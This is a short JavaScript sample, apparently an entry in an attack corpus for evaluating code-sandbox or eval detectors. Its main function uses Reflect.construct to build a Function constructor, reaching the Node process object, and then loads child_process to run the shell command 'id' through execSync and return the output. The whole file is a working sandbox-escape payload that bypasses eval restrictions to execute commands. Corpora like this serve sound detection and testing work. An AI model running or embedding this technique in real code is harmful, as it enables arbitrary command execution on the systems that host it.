// corpus: attack class=eval form=targeted
// Reflect.construct builds a Function.
function main() {
  const proc = Reflect.construct(Function, ['return process'])();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
